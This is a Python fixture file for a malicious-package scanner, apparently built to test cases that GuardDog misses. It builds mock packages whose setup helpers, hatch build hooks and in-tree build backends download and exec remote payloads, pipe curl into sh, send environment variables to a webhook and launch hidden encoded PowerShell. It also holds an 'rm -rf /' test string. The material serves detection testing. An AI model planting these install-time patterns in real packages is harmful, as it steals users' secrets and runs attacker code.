"""Hand-written, defanged package fixtures (never copied from the corpus).

URLs point at reserved documentation hosts or defanged paths, and nothing here is
ever executed: the scanner only reads these strings.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

BENIGN_SETUP = '''\
from setuptools import setup, find_packages

setup(
    name="tidy-widgets",
    version="1.2.0",
    packages=find_packages(),
    install_requires=["click>=8"],
)
'''

BENIGN_INIT = '''\
"""Tidy widgets."""
from .core import Widget

__all__ = ["Widget"]
__version__ = "1.2.0"
'''

BENIGN_CORE = '''\
class Widget:
    def __init__(self, name):
        self.name = name

    def render(self):
        return f"<{self.name}>"
'''

# GuardDog miss (a): setup.py only imports a helper; the payload sits in the helper.
MISS_SETUP_IMPORT = {
    "setup.py": '''\
from setuptools import setup
from buildtools.helpers import prepare

prepare()
setup(name="tidy-widgets", version="1.2.0", packages=["tidy"])
''',
    "buildtools/__init__.py": "",
    "buildtools/helpers.py": '''\
import base64 as b
import os
import urllib.request


def prepare():
    data = urllib.request.urlopen("http://203.0.113.9/stage2.bin").read()
    exec(b.b64decode(data))
    os.system("curl -s http://203.0.113.9/x.sh | sh")
''',
    "tidy/__init__.py": BENIGN_INIT,
    "tidy/core.py": BENIGN_CORE,
}

# GuardDog miss (b): a hatch build hook declared in pyproject.toml.
MISS_HATCH_HOOK = {
    "pyproject.toml": '''\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "tidy-widgets"
version = "1.2.0"

[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
''',
    "hatch_build.py": '''\
import os
import socket
import requests
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomHook(BuildHookInterface):
    def initialize(self, version, build_data):
        info = {"host": socket.gethostname(), "env": dict(os.environ)}
        requests.post("https://discord.com/api/webhooks/000/defanged", json=info)
''',
    "tidy/__init__.py": BENIGN_INIT,
    "tidy/core.py": BENIGN_CORE,
}

# GuardDog miss (c): an in-tree PEP 517 backend via backend-path.
MISS_INTREE_BACKEND = {
    "pyproject.toml": '''\
[build-system]
requires = ["setuptools>=61"]
build-backend = "backend"
backend-path = ["_custom_build"]

[project]
name = "tidy-widgets"
version = "1.2.0"
''',
    "_custom_build/backend.py": '''\
import subprocess
import zlib, base64
from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa

_blob = "eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUcgoKSmw0tc3MjDWM9AzNDTWs9SvUKhRKM5Q0uQCAPwJEIU="


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    code = zlib.decompress(base64.b64decode(_blob))
    exec(code)
    subprocess.Popen("powershell -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                     shell=True)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
''',
    "tidy/__init__.py": BENIGN_INIT,
    "tidy/core.py": BENIGN_CORE,
}

# GuardDog false alarm: click's tests carry a literal `rm -rf /` as a shell-quoting test.
BENIGN_WITH_TESTS = {
    "setup.py": BENIGN_SETUP,
    "tidy/__init__.py": BENIGN_INIT,
    "tidy/core.py": BENIGN_CORE,
    "tests/test_termui.py": '''\
import subprocess


def test_edit_quotes(tmp_path):
    # a filename that must never reach a shell unquoted
    dangerous = "rm -rf /"
    result = subprocess.run(["echo", dangerous], capture_output=True)
    assert result.returncode == 0
''',
    "docs/conf.py": 'project = "tidy"\nextensions = ["sphinx.ext.autodoc"]\n',
}

BENIGN_PKG = {
    "setup.py": BENIGN_SETUP,
    "setup.cfg": "[metadata]\nname = tidy-widgets\n\n[egg_info]\ntag_build =\n",
    "tidy/__init__.py": BENIGN_INIT,
    "tidy/core.py": BENIGN_CORE,
}


def write_dir(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    return root


def write_sdist(path: Path, files: dict[str, str], top: str = "tidy-widgets-1.2.0") -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def write_zip(path: Path, files: dict[str, str | bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return path
